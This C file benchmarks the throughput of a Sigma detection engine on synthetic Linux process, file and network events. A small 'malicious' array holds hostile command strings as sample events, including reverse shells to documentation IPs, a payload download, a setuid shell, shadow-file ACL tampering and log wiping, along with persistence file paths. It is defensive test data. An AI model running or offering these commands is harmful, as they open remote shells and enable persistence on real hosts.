/*
 * bench_detect.c — throughput of the Sigma engine on one core.
 *
 * Loads Yamori's rule pack (rules/, or the third argument) and every
 * SigmaHQ rule for Linux (the files whose logsource says product linux,
 * from ../shared/sigma or the directory given as the first argument) into
 * one engine, as the server runs them, compiles them against Yamori's schema, then runs a synthetic
 * mix of Yamori events through detect_match() on one thread: 80% process
 * creations with varied command lines, 12% file and 8% network events, and
 * 0.2% that the rules are written to catch. 2048 distinct events are
 * generated up front, each packed in one block as a decoder would leave it,
 * and replayed for the given number of seconds of CPU time.
 *
 * Two figures: fields set by id (what the server does: it maps its fixed
 * schema to field ids once with detect_field_id) and fields set by name
 * (any source that only knows names). Both include building each event
 * (detect_event_clear + one set per field, 38 for a process event). Times
 * are the thread's CPU time, so other load on the machine does not count.
 * The project's target is 500,000 events/s per core.
 *
 *   bench_detect [SIGMA_DIR] [SECONDS] [PACK_DIR]
 *
 * The time is cut into rounds (one per second by default, BENCH_ROUNDS=N
 * to choose) and the median round is the figure, with the slowest and the
 * fastest: on a shared machine a neighbour's moment of load moves single
 * rounds a lot.
 *
 * BENCH_PASSES=N replays exactly N passes (for instruction counts under
 * valgrind); BENCH_ID_ONLY=1 skips the by-name run.
 */
#include <dirent.h>
#include <errno.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "detect/detect.h"

#define NEVENTS 2048
#define MAX_FIELDS 48

struct field {
    const char *name;
    char *value;
};

struct bevent {
    struct field f[MAX_FIELDS];
    int n;
};

/* One event in one block, as the server's decoder reads it from a stored
 * record: the number of fields, per field its id and value length, then
 * the values one after the other (each followed by a NUL). About 900
 * bytes for a process creation, so the 2,048 events stream through the
 * caches as a batch of records would, not as padded arrays. */
struct pfield {
    int32_t id;        /* detect_field_id(), or < 0 */
    uint32_t vlen;
};

struct pevent {
    uint32_t n;
    struct pfield f[];  /* then the values */
};

/* The names, for the run that sets fields by name. */
struct pname {
    const char *name;
    uint32_t nlen;
};

static struct pevent *packed[NEVENTS];
static struct pname (*pnames)[MAX_FIELDS];

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void)
{
    uint64_t x = rng_state;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    rng_state = x;
    return x;
}

static const char *pick(const char *const *a, size_t n)
{
    return a[rnd() % n];
}

#define PICK(a) pick(a, sizeof(a) / sizeof(a[0]))

static char *xstrdup(const char *s)
{
    char *p = strdup(s);
    if (!p) {
        perror("strdup");
        exit(1);
    }
    return p;
}

static void add(struct bevent *e, const char *name, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));

static void add(struct bevent *e, const char *name, const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(buf, sizeof(buf), fmt, ap);
    va_end(ap);
    if (e->n < MAX_FIELDS) {
        e->f[e->n].name = name;
        e->f[e->n].value = xstrdup(buf);
        e->n++;
    }
}

static const char *const users[] = {"alice", "bob", "carol", "deploy", "www-data", "root",
                                    "postgres", "jenkins", "dave", "erin"};
static const char *const words[] = {"error", "config", "status", "users", "metrics", "orders",
                                    "build", "release", "health", "login", "cache", "queue"};
static const char *const services[] = {"nginx", "postgresql", "docker", "sshd", "cron",
                                       "redis-server", "prometheus", "node-exporter"};
static const char *const pkgs[] = {"htop", "jq", "build-essential", "python3-pip", "git",
                                   "curl", "vim", "tmux", "libssl-dev"};
static const char *const dirs[] = {"projects", "src", "Downloads", "backup", "logs", "work",
                                   "data", ".config"};
static const char *const images[] = {"alpine:3.19", "nginx:latest", "postgres:16",
                                     "python:3.12-slim", "redis:7"};
static const char *const hosts[] = {"web-01", "web-02", "db-01", "build-07", "jump-01",
                                    "k8s-node-3", "dev-laptop-12"};

struct proc {
    const char *path, *name;
};

static const struct proc parents[] = {
    {"/usr/bin/bash", "bash"},       {"/usr/bin/bash", "bash"},
    {"/usr/sbin/sshd", "sshd"},      {"/usr/lib/systemd/systemd", "systemd"},
    {"/usr/sbin/cron", "cron"},      {"/usr/bin/python3.11", "python3.11"},
    {"/usr/bin/make", "make"},       {"/usr/bin/zsh", "zsh"},
    {"/usr/bin/node", "node"},       {"/usr/bin/containerd-shim-runc-v2", "containerd-shim"},
};

/* A benign command line for a random program. */
static void benign_process(char *path, size_t pn, char *cmd, size_t cn)
{
    const char *u = PICK(users), *w = PICK(words), *s = PICK(services);
    unsigned a = (unsigned)(rnd() % 250), b = (unsigned)(rnd() % 250);
    switch (rnd() % 40) {
    case 0: snprintf(path, pn, "/usr/bin/ls"); snprintf(cmd, cn, "ls -la /home/%s/%s", u, PICK(dirs)); break;
    case 1: snprintf(path, pn, "/usr/bin/grep"); snprintf(cmd, cn, "grep -rn %s /etc/%s", w, s); break;
    case 2: snprintf(path, pn, "/usr/bin/python3.11"); snprintf(cmd, cn, "python3 /opt/app/%s_worker.py --config /etc/app/%s.yaml --verbose", w, w); break;
    case 3: snprintf(path, pn, "/usr/bin/git"); snprintf(cmd, cn, "git pull --rebase origin main"); break;
    case 4: snprintf(path, pn, "/usr/bin/git"); snprintf(cmd, cn, "git log --oneline -n %u", a); break;
    case 5: snprintf(path, pn, "/usr/bin/systemctl"); snprintf(cmd, cn, "systemctl status %s.service", s); break;
    case 6: snprintf(path, pn, "/usr/bin/systemctl"); snprintf(cmd, cn, "systemctl restart %s", s); break;
    case 7: snprintf(path, pn, "/usr/bin/apt-get"); snprintf(cmd, cn, "apt-get install -y %s", PICK(pkgs)); break;
    case 8: snprintf(path, pn, "/usr/bin/ssh"); snprintf(cmd, cn, "ssh -o BatchMode=yes %s@10.0.%u.%u uptime", u, a, b); break;
    case 9: snprintf(path, pn, "/usr/bin/curl"); snprintf(cmd, cn, "curl -sf https://api.internal.example/v1/%s?limit=%u", w, a); break;
    case 10: snprintf(path, pn, "/usr/bin/docker"); snprintf(cmd, cn, "docker ps -a --format {{.Names}}"); break;
    case 11: snprintf(path, pn, "/usr/bin/docker"); snprintf(cmd, cn, "docker run --rm %s echo ok", PICK(images)); break;
    case 12: snprintf(path, pn, "/usr/bin/cat"); snprintf(cmd, cn, "cat /var/log/%s/access.log", s); break;
    case 13: snprintf(path, pn, "/usr/bin/tail"); snprintf(cmd, cn, "tail -n 200 -f /var/log/syslog"); break;
    case 14: snprintf(path, pn, "/usr/bin/ps"); snprintf(cmd, cn, "ps -eo pid,ppid,cmd --sort=-%%cpu"); break;
    case 15: snprintf(path, pn, "/usr/bin/sed"); snprintf(cmd, cn, "sed -i s/%s/%s/g /etc/%s/%s.conf", w, PICK(words), s, s); break;
    case 16: snprintf(path, pn, "/usr/bin/awk"); snprintf(cmd, cn, "awk -F: {print $1} /etc/group"); break;
    case 17: snprintf(path, pn, "/usr/bin/find"); snprintf(cmd, cn, "find /var/log/%s -name *.gz -mtime +%u -delete", s, a % 30); break;
    case 18: snprintf(path, pn, "/usr/bin/tar"); snprintf(cmd, cn, "tar czf /backup/%s-%u.tgz /srv/%s", w, a, w); break;
    case 19: snprintf(path, pn, "/usr/bin/bash"); snprintf(cmd, cn, "/bin/bash /usr/local/bin/%s-healthcheck.sh", s); break;
    case 20: snprintf(path, pn, "/usr/bin/dash"); snprintf(cmd, cn, "/bin/sh -c run-parts --report /etc/cron.hourly"); break;
    case 21: snprintf(path, pn, "/usr/bin/node"); snprintf(cmd, cn, "node /srv/app/dist/server.js --port %u", 3000 + a); break;
    case 22: snprintf(path, pn, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"); snprintf(cmd, cn, "java -Xmx2g -jar /opt/%s/%s.jar --spring.profiles.active=prod", w, w); break;
    case 23: snprintf(path, pn, "/usr/bin/make"); snprintf(cmd, cn, "make -j8 all"); break;
    case 24: snprintf(path, pn, "/usr/bin/gcc-12"); snprintf(cmd, cn, "gcc -O2 -g -Wall -c src/%s.c -o build/%s.o", w, w); break;
    case 25: snprintf(path, pn, "/usr/bin/vim.basic"); snprintf(cmd, cn, "vim /home/%s/%s/%s.md", u, PICK(dirs), w); break;
    case 26: snprintf(path, pn, "/usr/bin/sudo"); snprintf(cmd, cn, "sudo systemctl reload %s", s); break;
    case 27: snprintf(path, pn, "/usr/bin/id"); snprintf(cmd, cn, "id -u"); break;
    case 28: snprintf(path, pn, "/usr/bin/date"); snprintf(cmd, cn, "date +%%s"); break;
    case 29: snprintf(path, pn, "/usr/bin/sleep"); snprintf(cmd, cn, "sleep %u", a % 60); break;
    case 30: snprintf(path, pn, "/usr/bin/mkdir"); snprintf(cmd, cn, "mkdir -p /srv/%s/releases/%u", w, a); break;
    case 31: snprintf(path, pn, "/usr/bin/rm"); snprintf(cmd, cn, "rm -f /var/run/%s.pid", s); break;
    case 32: snprintf(path, pn, "/usr/bin/cp"); snprintf(cmd, cn, "cp -a /etc/%s /backup/etc-%s", s, s); break;
    case 33: snprintf(path, pn, "/usr/bin/chmod"); snprintf(cmd, cn, "chmod 0644 /srv/%s/%s.json", w, w); break;
    case 34: snprintf(path, pn, "/usr/local/bin/kubectl"); snprintf(cmd, cn, "kubectl get pods -n %s -o wide", w); break;
    case 35: snprintf(path, pn, "/usr/bin/journalctl"); snprintf(cmd, cn, "journalctl -u %s --since -1h --no-pager", s); break;
    case 36: snprintf(path, pn, "/usr/bin/pip3"); snprintf(cmd, cn, "pip3 install --user requests==2.%u.0", a % 32); break;
    case 37: snprintf(path, pn, "/usr/bin/rsync"); snprintf(cmd, cn, "rsync -az --delete /srv/%s/ backup-01:/srv/%s/", w, w); break;
    case 38: snprintf(path, pn, "/usr/bin/wc"); snprintf(cmd, cn, "wc -l /var/log/%s/error.log", s); break;
    default: snprintf(path, pn, "/usr/bin/env"); snprintf(cmd, cn, "env LANG=C.UTF-8 /usr/bin/%s --version", s); break;
    }
}

static const char *const malicious[][2] = {
    {"/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
    {"/usr/bin/base64", "base64 -d /tmp/.x/payload.b64"},
    {"/usr/bin/nc.openbsd", "nc -e /bin/sh 198.51.100.3 4444"},
    {"/usr/bin/chmod", "chmod +s /tmp/rootshell"},
    {"/usr/bin/crontab", "crontab -r"},
    {"/usr/bin/wget", "wget http://198.51.100.3/x.sh -O /tmp/x.sh"},
    {"/usr/bin/python3", "python3 -c import pty;pty.spawn(\"/bin/bash\")"},
    {"/usr/sbin/iptables", "iptables -F"},
    {"/usr/bin/setfacl", "setfacl -m u:nobody:rwx /etc/shadow"},
    {"/usr/bin/bash", "bash -c history -c"},
};

static void common(struct bevent *e, uint64_t seq, const char *type, const char *action)
{
    add(e, "Timestamp", "2026-11-26T10:%02u:%02u.%09uZ", (unsigned)(seq / 60000 % 60),
        (unsigned)(seq / 1000 % 60), (unsigned)(seq % 1000) * 1000000);
    add(e, "EventType", "%s", type);
    add(e, "ActionType", "%s", action);
    add(e, "Seq", "%llu", (unsigned long long)seq);
    add(e, "SensorSource", "ebpf");
    add(e, "DeviceName", "%s", PICK(hosts));
}

static void initiating(struct bevent *e, const struct proc *p, const char *user)
{
    unsigned pid = 1000 + (unsigned)(rnd() % 60000);
    add(e, "InitiatingProcessId", "%u", pid);
    add(e, "InitiatingProcessUniqueId", "f5647a1c-%u-%u", pid, (unsigned)(rnd() % 9000000));
    add(e, "InitiatingProcessFileName", "%s", p->name);
    add(e, "InitiatingProcessFolderPath", "%s", p->path);
    add(e, "InitiatingProcessCommandLine", "%s", strcmp(p->name, "sshd") == 0
                                                 ? "sshd: alice [priv]" : p->path);
    add(e, "InitiatingProcessCreationTime", "2026-11-26T09:00:00.000000000Z");
    add(e, "InitiatingProcessCurrentDirectory", "/home/%s", user);
    add(e, "InitiatingProcessAccountName", "%s", user);
    add(e, "InitiatingProcessAccountUid", "%u", (unsigned)(rnd() % 2000));
    add(e, "InitiatingProcessParentId", "%u", (unsigned)(rnd() % 5000));
    add(e, "InitiatingProcessParentFileName", "systemd");
    add(e, "InitiatingProcessParentFolderPath", "/usr/lib/systemd/systemd");
}

static void gen_process(struct bevent *e, uint64_t seq, bool bad)
{
    char path[256], cmd[512];
    const char *user = PICK(users);
    const struct proc *par = &parents[rnd() % (sizeof(parents) / sizeof(parents[0]))];
    if (bad) {
        size_t k = rnd() % (sizeof(malicious) / sizeof(malicious[0]));
        snprintf(path, sizeof(path), "%s", malicious[k][0]);
        snprintf(cmd, sizeof(cmd), "%s", malicious[k][1]);
    } else {
        benign_process(path, sizeof(path), cmd, sizeof(cmd));
    }
    const char *name = strrchr(path, '/') + 1;
    unsigned pid = 1000 + (unsigned)(rnd() % 60000);
    common(e, seq, "process", "ProcessCreated");
    add(e, "ProcessId", "%u", pid);
    add(e, "ProcessUniqueId", "f5647a1c-%u-%u", pid, (unsigned)(rnd() % 9000000));
    add(e, "ProcessCreationTime", "2026-11-26T10:00:00.000000000Z");
    add(e, "FileName", "%s", name);
    add(e, "FolderPath", "%s", path);
    add(e, "ProcessCommandLine", "%s", cmd);
    add(e, "ProcessArgumentCount", "%u", 1 + (unsigned)(rnd() % 8));
    add(e, "ProcessCurrentDirectory", "/home/%s", user);
    add(e, "AccountName", "%s", user);
    add(e, "AccountUid", "%u", (unsigned)(rnd() % 2000));
    add(e, "AccountGid", "%u", (unsigned)(rnd() % 2000));
    add(e, "ProcessEffectiveUid", "%u", (unsigned)(rnd() % 2000));
    add(e, "ProcessEffectiveGid", "%u", (unsigned)(rnd() % 2000));
    add(e, "LogonId", "%u", (unsigned)(rnd() % 500));
    add(e, "AccountLoginUid", "%u", (unsigned)(rnd() % 2000));
    add(e, "ProcessSessionId", "%u", (unsigned)(rnd() % 60000));
    add(e, "ProcessTty", "pts/%u", (unsigned)(rnd() % 8));
    add(e, "SHA256", "%016llx%016llx%016llx%016llx", (unsigned long long)rnd(),
        (unsigned long long)rnd(), (unsigned long long)rnd(), (unsigned long long)rnd());
    add(e, "FileSize", "%u", 10000 + (unsigned)(rnd() % 5000000));
    add(e, "PackageName", "coreutils");
    initiating(e, par, user);
}

static void gen_file(struct bevent *e, uint64_t seq, bool bad)
{
    static const char *const actions[] = {"FileCreated", "FileModified", "FileModified",
                                          "FileRenamed", "FileDeleted"};
    const char *user = PICK(users), *w = PICK(words);
    char path[256];
    if (bad) {
        static const char *const badp[] = {"/etc/cron.d/.sysupdate", "/etc/ld.so.preload",
                                           "/root/.ssh/authorized_keys", "/etc/sudoers.d/99-x",
                                           "/etc/systemd/system/sysupdate.service"};
        snprintf(path, sizeof(path), "%s", PICK(badp));
    } else {
        switch (rnd() % 5) {
        case 0: snprintf(path, sizeof(path), "/tmp/%s-%llu.tmp", w, (unsigned long long)(rnd() % 100000)); break;
        case 1: snprintf(path, sizeof(path), "/home/%s/.cache/pip/%s.whl", user, w); break;
        case 2: snprintf(path, sizeof(path), "/var/tmp/systemd-private-%llx/%s", (unsigned long long)rnd(), w); break;
        case 3: snprintf(path, sizeof(path), "/usr/local/bin/%s-helper", w); break;
        default: snprintf(path, sizeof(path), "/home/%s/.bash_history", user); break;
        }
    }
    const char *base = strrchr(path, '/') + 1;
    common(e, seq, "file", PICK(actions));
    add(e, "FileName", "%s", base);
    add(e, "FolderPath", "%s", path);
    add(e, "FileMode", "0644");
    add(e, "LocationTag", "temp");
    initiating(e, &parents[rnd() % (sizeof(parents) / sizeof(parents[0]))], user);
}

static void gen_network(struct bevent *e, uint64_t seq, bool bad)
{
    static const char *const actions[] = {"ConnectionSuccess", "ConnectionSuccess",
                                          "ConnectionFailed", "InboundConnectionAccepted"};
    static const unsigned ports[] = {443, 443, 80, 22, 5432, 6379, 53, 8080};
    common(e, seq, "network", PICK(actions));
    add(e, "Protocol", "Tcp");
    add(e, "LocalIP", "10.0.%u.%u", (unsigned)(rnd() % 250), (unsigned)(rnd() % 250));
    add(e, "LocalPort", "%u", 32768 + (unsigned)(rnd() % 28000));
    add(e, "RemoteIP", "%u.%u.%u.%u", 1 + (unsigned)(rnd() % 220), (unsigned)(rnd() % 250),
        (unsigned)(rnd() % 250), (unsigned)(rnd() % 250));
    add(e, "RemotePort", "%u", bad ? 4444 : ports[rnd() % 8]);
    add(e, "RemoteIPType", "Public");
    static const struct proc netp[] = {{"/usr/bin/curl", "curl"}, {"/usr/bin/python3.11", "python3.11"},
                                       {"/usr/sbin/nginx", "nginx"}, {"/usr/bin/bash", "bash"}};
    initiating(e, &netp[rnd() % 4], PICK(users));
}

static size_t nloaded, nrefused, nfiles;

static void on_diag(void *ctx, const struct detect_diag *d)
{
    (void)ctx;
    if (d->severity == DETECT_ERROR) {
        nrefused++;
        fprintf(stderr, "%s\n", d->message);
    }
}

static int load_file(struct detect_engine *eng, const char *path)
{
    FILE *f = fopen(path, "rb");
    struct stat st;
    if (!f || fstat(fileno(f), &st) < 0) {
        if (f)
            fclose(f);
        return -errno;
    }
    char *buf = malloc((size_t)st.st_size + 1);
    size_t n = buf ? fread(buf, 1, (size_t)st.st_size, f) : 0;
    fclose(f);
    if (!buf)
        return -ENOMEM;
    buf[n] = '\0';
    /* SigmaHQ's Linux rules: logsource product linux */
    if (strstr(buf, "product: linux")) {
        int rc = detect_engine_add(eng, path, buf, n, on_diag, NULL);
        if (rc > 0)
            nloaded += (size_t)rc;
        nfiles++;
    }
    free(buf);
    return 0;
}

static void walk(struct detect_engine *eng, const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    if (!d)
        return;
    while ((de = readdir(d))) {
        char p[4096];
        struct stat st;
        if (de->d_name[0] == '.')
            continue;
        snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
        if (stat(p, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode))
            walk(eng, p);
        else if (strstr(de->d_name, ".yml"))
            load_file(eng, p);
    }
    closedir(d);
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* CPU time of this thread: the figure per core, whatever else runs on the
 * machine */
static double cpu_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t nmatched;

static int on_match(void *ctx, const struct detect_match *m)
{
    (void)ctx;
    (void)m;
    nmatched++;
    return 0;
}

/* Runs whole passes over the events for `seconds` of CPU time (after one
 * warm-up pass); fields set by id or by name. */
static int run(struct detect_event *ev, bool by_id, double seconds, double *rate, double *us,
               uint64_t *done)
{
    double start = 0, cend = 0;
    *done = 0;
    for (int pass = 0;; pass++) {
        if (pass == 1) {
            nmatched = 0;
            start = cpu_s();
        }
        for (int i = 0; i < NEVENTS; i++) {
            const struct pevent *b = packed[i];
            const char *value = (const char *)&b->f[b->n];
            detect_event_clear(ev);
            if (by_id) {
                for (uint32_t k = 0; k < b->n; k++) {
                    if (b->f[k].id >= 0)
                        detect_event_set_id(ev, b->f[k].id, value, b->f[k].vlen);
                    value += b->f[k].vlen + 1;
                }
            } else {
                for (uint32_t k = 0; k < b->n; k++) {
                    detect_event_set(ev, pnames[i][k].name, pnames[i][k].nlen, value,
                                     b->f[k].vlen);
                    value += b->f[k].vlen + 1;
                }
            }
            if (detect_match(ev, NULL, on_match, NULL) < 0) {
                fprintf(stderr, "bench_detect: match failed\n");
                return -1;
            }
        }
        if (pass >= 1) {
            *done += NEVENTS;
            cend = cpu_s();
            /* BENCH_PASSES: a fixed amount of work (for instruction counts) */
            if (getenv("BENCH_PASSES") ? pass >= atoi(getenv("BENCH_PASSES"))
                                       : cend - start >= seconds)
                break;
        }
    }
    *rate = (double)*done / (cend - start);
    *us = 1e6 / *rate;
    return 0;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* `rounds` runs of seconds / rounds each: the median rate (and the
 * slowest and fastest round), so that a moment when the machine's
 * neighbours take the caches does not make the figure; matches and events
 * counted over all rounds. */
#define MAX_ROUNDS 64
static int run_rounds(struct detect_event *ev, bool by_id, double seconds, int rounds,
                      double *median, double *lo, double *hi, uint64_t *done,
                      uint64_t *matched)
{
    double rates[MAX_ROUNDS];
    *done = *matched = 0;
    for (int r = 0; r < rounds; r++) {
        double us;
        uint64_t d;
        if (run(ev, by_id, seconds / rounds, &rates[r], &us, &d) < 0)
            return -1;
        *done += d;
        *matched += nmatched;
    }
    qsort(rates, (size_t)rounds, sizeof(rates[0]), cmp_double);
    *median = rounds % 2 ? rates[rounds / 2] : (rates[rounds / 2 - 1] + rates[rounds / 2]) / 2;
    *lo = rates[0];
    *hi = rates[rounds - 1];
    return 0;
}

int main(int argc, char **argv)
{
    const char *sigma = argc > 1 ? argv[1] : "../shared/sigma";
    double seconds = argc > 2 ? atof(argv[2]) : 3.0;
    const char *pack = argc > 3 ? argv[3] : "rules";
    size_t pack_files = 0, pack_loaded = 0;
    char err[256];
    struct detect_engine *eng = NULL;
    struct detect_event *ev = NULL;
    struct bevent *events = NULL;
    int status = 1;

    struct stat st;
    if (stat(sigma, &st) < 0 || !S_ISDIR(st.st_mode)) {
        fprintf(stderr, "bench_detect: no SigmaHQ corpus at %s (give its path)\n", sigma);
        return 2;
    }
    eng = detect_engine_new(NULL, err, sizeof(err));
    if (!eng) {
        fprintf(stderr, "bench_detect: %s\n", err);
        return 1;
    }
    double t0 = now_s();
    static const char *const sub[] = {"rules", "rules-emerging-threats", "rules-threat-hunting",
                                      "rules-placeholder"};
    walk(eng, pack);
    pack_files = nfiles;
    pack_loaded = nloaded;
    for (size_t i = 0; i < 4; i++) {
        char p[4096];
        snprintf(p, sizeof(p), "%s/%s", sigma, sub[i]);
        walk(eng, p);
    }
    if (detect_engine_compile(eng, on_diag, NULL, err, sizeof(err)) < 0) {
        fprintf(stderr, "bench_detect: %s\n", err);
        goto cleanup;
    }
    double t1 = now_s();
    struct detect_engine_stats es;
    detect_engine_stats(eng, &es);
    printf("rules: Yamori's pack (%zu files, %zu rules) and SigmaHQ's Linux rules (%zu files, %zu rules): "
           "%zu loaded, %zu refused, compiled in %.0f ms\n",
           pack_files, pack_loaded, nfiles - pack_files, nloaded - pack_loaded, nloaded, nrefused,
           (t1 - t0) * 1000);
    printf("index: %zu rule selections indexed by literal, %zu evaluated on every event, "
           "%zu KiB\n", es.indexed_rules, es.unindexed_rules, es.index_bytes / 1024);

    events = calloc(NEVENTS, sizeof(*events));
    if (!events)
        goto cleanup;
    for (uint64_t i = 0; i < NEVENTS; i++) {
        unsigned kind = (unsigned)(rnd() % 100);
        bool bad = rnd() % 1000 < 2;   /* 0.2% suspicious */
        if (kind < 80)
            gen_process(&events[i], i, bad);
        else if (kind < 92)
            gen_file(&events[i], i, bad);
        else
            gen_network(&events[i], i, bad);
    }
    ev = detect_event_new(eng, err, sizeof(err));
    if (!ev) {
        fprintf(stderr, "bench_detect: %s\n", err);
        goto cleanup;
    }
    /* each event in one block, as the decoder reads it (struct pevent) */
    pnames = calloc(NEVENTS, sizeof(*pnames));
    if (!pnames)
        goto cleanup;
    for (int i = 0; i < NEVENTS; i++) {
        size_t bytes = sizeof(struct pevent) + sizeof(struct pfield) * (size_t)events[i].n;
        for (int k = 0; k < events[i].n; k++)
            bytes += strlen(events[i].f[k].value) + 1;
        packed[i] = malloc(bytes);
        if (!packed[i])
            goto cleanup;
        packed[i]->n = (uint32_t)events[i].n;
        char *value = (char *)&packed[i]->f[events[i].n];
        for (int k = 0; k < events[i].n; k++) {
            size_t l = strlen(events[i].f[k].value);
            memcpy(value, events[i].f[k].value, l + 1);
            value += l + 1;
            pnames[i][k].name = events[i].f[k].name;
            pnames[i][k].nlen = (uint32_t)strlen(events[i].f[k].name);
            packed[i]->f[k].vlen = (uint32_t)l;
            packed[i]->f[k].id = detect_field_id(eng, pnames[i][k].name, pnames[i][k].nlen);
        }
    }
    /* by id: the server maps its fixed schema to field ids once */
    /* BENCH_ROUNDS (default: one per second of CPU time asked for, at
     * least 1, at most MAX_ROUNDS; 1 with BENCH_PASSES) */
    int rounds = getenv("BENCH_ROUNDS") ? atoi(getenv("BENCH_ROUNDS")) : (int)(seconds + 0.5);
    if (getenv("BENCH_PASSES") || rounds < 1)
        rounds = 1;
    if (rounds > MAX_ROUNDS)
        rounds = MAX_ROUNDS;
    double rate_id, lo_id, hi_id, rate_name = 0, lo_name = 0, hi_name = 0;
    uint64_t done_id, done_name = 0, matched_id, matched_name;
    if (run_rounds(ev, true, seconds, rounds, &rate_id, &lo_id, &hi_id, &done_id, &matched_id) < 0)
        goto cleanup;
    struct detect_event_stats s;
    detect_event_stats(ev, &s);
    /* by name: any source that only knows field names (JSON) */
    if (!getenv("BENCH_ID_ONLY") &&
        run_rounds(ev, false, seconds / 2, rounds, &rate_name, &lo_name, &hi_name, &done_name,
                   &matched_name) < 0)
        goto cleanup;
    printf("events: %d distinct (80%% process creations, 12%% file, 8%% network, 0.2%% "
           "suspicious), %llu run, CPU time of one thread, median of %d round%s\n", NEVENTS,
           (unsigned long long)(done_id + done_name), rounds, rounds == 1 ? "" : "s");
    printf("throughput, fields set by id:   %8.0f events/s per core (%.2f us/event; rounds "
           "%.0f-%.0f), target 500000\n", rate_id, 1e6 / rate_id, lo_id, hi_id);
    if (done_name)
        printf("throughput, fields set by name: %8.0f events/s per core (%.2f us/event; rounds "
               "%.0f-%.0f)\n", rate_name, 1e6 / rate_name, lo_name, hi_name);
    printf("per event: %.2f rules evaluated, %.4f matches, %.1f values looked up in a literal "
           "index (%.0f%% answered from the memo of values seen before)\n",
           (double)s.candidates / (double)s.events, (double)matched_id / (double)done_id,
           (double)s.scans / (double)s.events,
           s.scans ? 100.0 * (double)s.scans_remembered / (double)s.scans : 0.0);
    status = 0;
cleanup:
    if (events)
        for (int i = 0; i < NEVENTS; i++)
            for (int k = 0; k < events[i].n; k++)
                free(events[i].f[k].value);
    free(events);
    for (int i = 0; i < NEVENTS; i++)
        free(packed[i]);
    free(pnames);
    detect_event_free(ev);
    detect_engine_free(eng);
    return status;
}
